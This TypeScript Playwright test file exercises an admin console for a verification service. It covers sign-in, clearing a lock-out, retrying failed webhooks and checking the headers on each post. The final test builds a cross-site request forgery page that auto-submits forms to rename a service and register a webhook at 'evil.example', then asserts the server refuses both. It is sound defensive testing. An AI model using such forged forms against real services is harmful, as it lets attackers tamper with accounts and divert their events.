import assert from 'node:assert/strict';
import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Browser, BrowserContext, Page, Request } from 'playwright-core';
import { chromiumMissing, launchChromium, screenshotFolder, watchPage } from '../support/browser.ts';
import { checkAndShoot } from '../support/page-checks.ts';
import { startVerity, type TestVerity } from '../support/start-verity.ts';

const LOCKED = '+14155550177';

/** A local HTTP server answering every request with `respond` (a webhook receiver, or another site's page). */
async function startServer(host: string, respond: (url: string, res: ServerResponse) => void): Promise<{ url: string; server: Server }> {
  const server = createServer((req, res) => {
    req.resume();
    req.on('end', () => respond(req.url ?? '/', res));
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return { url: `http://${host}:${(server.address() as AddressInfo).port}`, server };
}

/** Resolves when `check` is true (a background job's effect), checking every 50 ms for up to 10 s. */
async function eventually(what: string, check: () => Promise<boolean>): Promise<void> {
  for (let i = 0; i < 200; i++) {
    if (await check()) return;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error(`not within 10 s: ${what}`);
}

/**
 * The admin console in Chromium, as an operator uses it: sign in through the page, clear a real
 * wrong-code lock-out and retry a webhook delivery that really failed (Chromium's own Origin and
 * Sec-Fetch-* headers on every post: issue 11, broken journey 1), sign out; and a page of another site
 * that auto-submits a form to Verity's /v2 with credentials the browser holds is refused (finding 1).
 */
describe('admin console in a browser', { skip: chromiumMissing }, () => {
  const folder = screenshotFolder('admin', 'admin console');
  const { shot } = folder;
  /** Issue 17: each console page once at 1280 and 375 px, axe-clean and without sideways scroll (the desktop run); the phone run keeps its own screenshot. */
  const look = async (page: Page, run: string, name: string) => (run === 'desktop' ? checkAndShoot(page, folder, name) : shot(page, `${run}-${name}`));
  let v: TestVerity;
  let browser: Browser;
  let serviceSid: string;
  let receiver: { url: string; server: Server };
  /** The webhook receiver fails until this turns false. */
  let receiverFails = true;
  let attacker: { url: string; server: Server } | undefined;

  before(async () => {
    v = await startVerity({ env: { VERITY_WEBHOOK_MAX_ATTEMPTS: '1', VERITY_WEBHOOK_ALLOW_LOOPBACK: 'true' } });
    receiver = await startServer('127.0.0.1', (_url, res) => res.writeHead(receiverFails ? 503 : 204).end());
    serviceSid = (await v.api('POST', '/v2/Services', { FriendlyName: 'Demo shop' })).body.sid as string;
    const hook = await v.api('POST', `/v2/Services/${serviceSid}/Webhooks`, { FriendlyName: 'audit', EventTypes: 'verification.approved', WebhookUrl: `${receiver.url}/hook` });
    assert.equal(hook.status, 201, JSON.stringify(hook.body));
    for (const [to, channel] of [['+14155550101', 'sms'], ['+14155550102', 'sms'], ['+14155550103', 'sms'], ['ann@example.com', 'email'], ['bob@example.com', 'email']] as const) {
      await v.api('POST', `/v2/Services/${serviceSid}/Verifications`, { To: to, Channel: channel });
    }
    for (const to of ['+14155550101', 'ann@example.com']) await v.api('POST', `/v2/Services/${serviceSid}/VerificationCheck`, { To: to, Code: await v.lastCode(to) });
    // A real lock-out: wrong codes until the destination is locked (checks are refused with 60202).
    let locked = false;
    for (let round = 0; round < 5 && !locked; round++) {
      await v.api('POST', `/v2/Services/${serviceSid}/Verifications`, { To: LOCKED, Channel: 'sms' });
      for (let i = 0; i < 5 && !locked; i++) {
        const check = await v.api('POST', `/v2/Services/${serviceSid}/VerificationCheck`, { To: LOCKED, Code: '000000' });
        locked = check.body.code === 60202 && check.headers.get('retry-after') !== null;
      }
    }
    assert.ok(locked, `${LOCKED} is locked out`);
    // Real failed deliveries: the receiver answered 503 and one attempt is all there is.
    await eventually('the deliveries failed', async () => {
      const rows = await v.ctx.db.kysely.selectFrom('webhook_deliveries').select('status').execute();
      return rows.length === 2 && rows.every((r) => r.status === 'failed');
    });
    receiverFails = false;
    browser = await launchChromium();
  });
  after(async () => {
    await browser?.close();
    await v?.close();
    receiver?.server.close();
    attacker?.server.close();
  });

  /** Signs in through the sign-in page, typing the credentials as a person does. */
  const signIn = async (page: Page) => {
    await page.getByLabel('Account SID').fill(v.accountSid);
    await page.getByLabel('Auth Token').fill(v.authToken);
    await page.getByRole('button', { name: 'Sign in' }).click();
  };

  for (const [name, viewport] of [['desktop', { width: 1280, height: 900 }], ['phone', { width: 412, height: 915 }]] as const) {
    it(`signs in and renders the overview and the service page (${name})`, async () => {
      const context = await browser.newContext({ viewport });
      const page = await context.newPage();
      const problems: string[] = [];
      watchPage(page, problems);
      await page.goto(`${v.url}/admin`);
      await page.waitForURL(`${v.url}/admin/sign-in?next=%2Fadmin`);
      await look(page, name, 'sign-in');
      await signIn(page);
      await page.waitForURL(`${v.url}/admin`);
      assert.equal(await page.getByRole('link', { name: 'Demo shop', exact: true }).count(), 1);
      await look(page, name, 'overview');
      await page.getByRole('link', { name: 'Demo shop', exact: true }).click();
      await page.waitForURL(`**/admin/services/${serviceSid}`);
      // The service's three charts are there, and the stylesheet applied (a chart is no wider than its box).
      assert.equal(await page.locator('svg.chart-svg').count(), 3);
      assert.ok(await page.locator('#chart-service-volume svg').evaluate((svg) => svg.getBoundingClientRect().width <= (svg.parentElement?.clientWidth ?? 0)), 'the service chart fits its box');
      await look(page, name, 'service');
      await page.getByLabel('Destination (exact or prefix)').fill('+1415555010');
      await page.getByRole('button', { name: 'Search' }).click();
      await page.waitForURL(/to=/);
      assert.equal(await page.locator('#verifications + form + div tbody tr').count(), 3);
      await look(page, name, 'search');
      assert.deepEqual(problems, []);
      await context.close();
    });
  }

  it('clears a real lock-out and retries a really failed delivery with Chromium\'s own headers, then signs out', async () => {
    const context: BrowserContext = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const page = await context.newPage();
    const problems: string[] = [];
    watchPage(page, problems);
    const posts: Request[] = [];
    page.on('request', (request) => {
      if (request.method() === 'POST') posts.push(request);
    });
    // A link to the service page while signed out: sign-in first, then straight back there.
    await page.goto(`${v.url}/admin/services/${serviceSid}`);
    await signIn(page);
    await page.waitForURL(`${v.url}/admin/services/${serviceSid}`);

    const lockRow = page.locator('section[aria-labelledby="limits"] tr', { hasText: LOCKED });
    assert.match(await lockRow.innerText(), /locked until/);
    // Lock-outs are cleared in one place, the Limits page, which the service page links to.
    await page.getByRole('link', { name: 'Limits page' }).click();
    await page.waitForURL(`${v.url}/admin/limits?service=${serviceSid}`);
    await checkAndShoot(page, folder, 'limits');
    await page.locator('section[aria-labelledby="lockouts"] tr', { hasText: LOCKED }).getByRole('button', { name: 'Clear' }).click();
    await page.waitForURL(/\/admin\/limits\/lockouts\/clear\?/);
    await checkAndShoot(page, folder, 'lockout-clear-confirm');
    await page.getByRole('button', { name: 'Clear lock-out' }).click();
    await page.waitForURL(`${v.url}/admin/limits?service=${serviceSid}&done=cleared`);
    assert.match(await page.getByRole('status').innerText(), /lock-out is cleared/);
    await page.goto(`${v.url}/admin/services/${serviceSid}`);
    assert.equal(await page.locator('section[aria-labelledby="limits"] tr', { hasText: LOCKED }).count(), 0);
    await checkAndShoot(page, folder, 'lockout-cleared');
    // The service's Authy API page, linked from its head (a page no other journey opens).
    await page.getByRole('link', { name: 'Authy API', exact: true }).click();
    await page.waitForURL(`${v.url}/admin/services/${serviceSid}/authy`);
    await page.getByRole('heading', { name: 'Authy API', level: 1 }).waitFor();
    await checkAndShoot(page, folder, 'authy-api');
    await page.goto(`${v.url}/admin/services/${serviceSid}`);
    // The destination really can be checked again.
    await v.api('POST', `/v2/Services/${serviceSid}/Verifications`, { To: LOCKED, Channel: 'sms' });
    assert.equal((await v.api('POST', `/v2/Services/${serviceSid}/VerificationCheck`, { To: LOCKED, Code: await v.lastCode(LOCKED) })).body.status, 'approved');

    const failed = (await v.ctx.db.kysely.selectFrom('webhook_deliveries').select('sid').where('status', '=', 'failed').execute()).map((r) => r.sid);
    assert.equal(failed.length, 2);
    // Deliveries are retried in one place, the Webhooks page, which the service page links to.
    assert.equal(await page.getByRole('button', { name: 'Retry now' }).count(), 0);
    await page.getByRole('link', { name: 'Webhooks page' }).click();
    await page.waitForURL(`${v.url}/admin/webhooks`);
    assert.equal(await page.getByRole('button', { name: 'Retry now' }).count(), 2);
    await page.getByRole('button', { name: 'Retry now' }).first().click();
    await page.waitForURL(`${v.url}/admin/webhooks?done=requeued`);
    assert.match(await page.getByRole('status').innerText(), /queued again/);
    await eventually('the retried delivery was delivered', async () => {
      const rows = await v.ctx.db.kysely.selectFrom('webhook_deliveries').select('status').where('sid', 'in', failed).execute();
      return rows.filter((r) => r.status === 'delivered').length === 1;
    });
    await page.reload();
    assert.equal(await page.getByRole('button', { name: 'Retry now' }).count(), 1, 'one failed delivery is left');
    await checkAndShoot(page, folder, 'delivery-retried');

    // Every post carried Chromium's real Origin (not "null") and Sec-Fetch-Site: same-origin.
    assert.equal(posts.length, 3, posts.map((p) => p.url()).join(', '));
    for (const post of posts) {
      const headers = await post.allHeaders();
      assert.equal(headers.origin, new URL(v.url).origin, post.url());
      assert.equal(headers['sec-fetch-site'], 'same-origin', post.url());
    }

    const sessionsBefore = (await v.ctx.db.kysely.selectFrom('admin_sessions').select('sid').execute()).length;
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.waitForURL(`${v.url}/admin/sign-in?reason=signed-out`);
    assert.match(await page.getByRole('status').innerText(), /You signed out/);
    await checkAndShoot(page, folder, 'signed-out');
    assert.equal((await v.ctx.db.kysely.selectFrom('admin_sessions').select('sid').execute()).length, sessionsBefore - 1, 'the session is gone on the server');
    await page.goto(`${v.url}/admin/services/${serviceSid}`);
    await page.waitForURL(/\/admin\/sign-in\?next=/);
    assert.deepEqual(problems, []);
    await context.close();
  });

  it('refuses a form that a page of another site submits to /v2, even with credentials the browser holds', async () => {
    // The worst case of finding 1: the operator's browser holds Basic credentials for Verity's origin
    // (they once answered the API's dialog), and sends them with every request to it.
    const context = await browser.newContext({ httpCredentials: { username: v.accountSid, password: v.authToken, origin: new URL(v.url).origin, send: 'always' } });
    const page = await context.newPage();
    // Another site: `localhost` is not the same site as Verity's 127.0.0.1.
    attacker = await startServer('localhost', (url, res) => {
      const [target, fields] =
        url === '/rename'
          ? [`${v.url}/v2/Services/${serviceSid}`, { FriendlyName: 'Pwned' }]
          : [`${v.url}/v2/Services/${serviceSid}/Webhooks`, { FriendlyName: 'Pwned', EventTypes: '*', WebhookUrl: 'https://evil.example/hook' }];
      const inputs = Object.entries(fields).map(([name, value]) => `<input name="${name}" value="${value}">`).join('');
      res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><form id="f" method="post" action="${target}">${inputs}</form><script>document.getElementById('f').submit()</script>`);
    });
    for (const path of ['/rename', '/webhook']) {
      const landed = page.waitForResponse((response) => response.url().startsWith(`${v.url}/v2/`));
      await page.goto(`${attacker.url}${path}`);
      const response = await landed;
      const request = response.request();
      assert.equal((await request.allHeaders())['sec-fetch-site'], 'cross-site', 'Chromium marks the post as cross-site');
      assert.equal(response.status(), 403, path);
      assert.equal(((await response.json()) as { code: number }).code, 20403);
      assert.equal(response.headers()['www-authenticate'], undefined);
    }
    assert.equal((await v.api('GET', `/v2/Services/${serviceSid}`)).body.friendly_name, 'Demo shop', 'not renamed');
    assert.equal((await v.api('GET', `/v2/Services/${serviceSid}/Webhooks`)).body.webhooks.length, 1, 'no webhook created');
    // The same browser on Verity's own origin (a typed URL) is not refused as cross-site, but it gets
    // no Basic challenge either: no dialog, so the browser never comes to hold the credentials.
    const own = await page.goto(`${v.url}/v2/Services/${serviceSid}`);
    assert.equal(own?.status(), 401);
    assert.equal(own?.headers()['www-authenticate'], undefined, 'no credentials dialog for a navigation');
    assert.equal(((await own?.json()) as { code: number }).code, 20003);
    await context.close();
  });
});
